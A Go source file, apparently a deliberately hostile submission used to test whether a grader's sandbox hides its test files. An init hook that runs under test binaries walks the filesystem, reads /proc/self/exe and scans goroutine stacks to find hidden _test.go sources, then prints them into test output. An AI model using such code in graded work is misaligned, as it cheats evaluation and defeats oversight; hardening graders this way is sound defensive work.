package scraper

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"time"
)

// A hostile submission: in a test binary it tries every way to read the
// hidden test sources and prints what it finds while a hidden test runs, so
// it lands in that test's output. Each way prints a "gograder-probe" line;
// the grader must leave no line of hidden source in the report. The probes
// that need no running test run before the tests start, so however long the
// walk of the filesystem takes, the print still lands inside a test.
func init() {
	if !strings.HasSuffix(os.Args[0], ".test") {
		return
	}
	var out strings.Builder
	probeDirectories(&out)
	probeFile(&out, "/proc/self/exe", "/proc/self/exe")
	probeFile(&out, "os.Args[0]", os.Args[0])
	probeWalk(&out)
	go func() {
		waitForATest()
		probeCallerFiles(&out)
		fmt.Print(out.String())
	}()
}

// leak prints a file's content if it looks like Go test source.
func leak(out *strings.Builder, method, path string, data []byte) bool {
	if !bytes.Contains(data, []byte("func Test")) {
		return false
	}
	fmt.Fprintf(out, "gograder-probe %s: LEAKED %s\n%s\n", method, path, data)
	return true
}

func probeDirectories(out *strings.Builder) {
	for _, start := range []string{".", "/proc/self/cwd"} {
		found := 0
		for dir, i := start, 0; i < 8; dir, i = filepath.Join(dir, ".."), i+1 {
			entries, _ := os.ReadDir(dir)
			for _, entry := range entries {
				if strings.HasSuffix(entry.Name(), ".go") {
					data, err := os.ReadFile(filepath.Join(dir, entry.Name()))
					if err == nil && leak(out, "cwd", filepath.Join(dir, entry.Name()), data) {
						found++
					}
				}
			}
		}
		fmt.Fprintf(out, "gograder-probe cwd %s: %d Go test sources\n", start, found)
	}
}

func probeFile(out *strings.Builder, method, path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintf(out, "gograder-probe %s: %v\n", method, err)
		return
	}
	// A readable binary: print its longest printable strings with "want".
	fmt.Fprintf(out, "gograder-probe %s: read %d bytes\n", method, len(data))
	for _, s := range regexp.MustCompile(`[ -~]{20,}`).FindAll(data, -1) {
		if bytes.Contains(s, []byte("want")) {
			fmt.Fprintf(out, "%s\n", s)
		}
	}
}

func probeWalk(out *strings.Builder) {
	goroot := runtime.GOROOT()
	files, found := 0, 0
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev" || path == "/usr" || path == goroot) {
			return filepath.SkipDir
		}
		info, err := d.Info()
		if err != nil || !info.Mode().IsRegular() || info.Size() > 1<<20 {
			return nil
		}
		files++
		data, err := os.ReadFile(path)
		if err == nil && bytes.Contains(data, []byte("func TestHidden")) && leak(out, "walk", path, data) {
			found++
		}
		return nil
	})
	fmt.Fprintf(out, "gograder-probe walk: %d files read, %d hidden sources\n", files, found)
}

// waitForATest returns once a hidden test function is on some goroutine's stack.
func waitForATest() {
	for i := 0; i < 2000; i++ {
		if bytes.Contains(allStacks(), []byte(".TestHidden")) {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func allStacks() []byte {
	buf := make([]byte, 1<<20)
	return buf[:runtime.Stack(buf, true)]
}

func probeCallerFiles(out *strings.Builder) {
	paths := regexp.MustCompile(`(/[^\s:]+_test\.go):\d+`).FindAllSubmatch(allStacks(), -1)
	opened := map[string]bool{}
	for _, match := range paths {
		path := string(match[1])
		if opened[path] {
			continue
		}
		opened[path] = true
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(out, "gograder-probe runtime.Caller: %v\n", err)
			continue
		}
		leak(out, "runtime.Caller", path, data)
	}
	fmt.Fprintf(out, "gograder-probe runtime.Caller: %d test files on the stacks\n", len(opened))
}
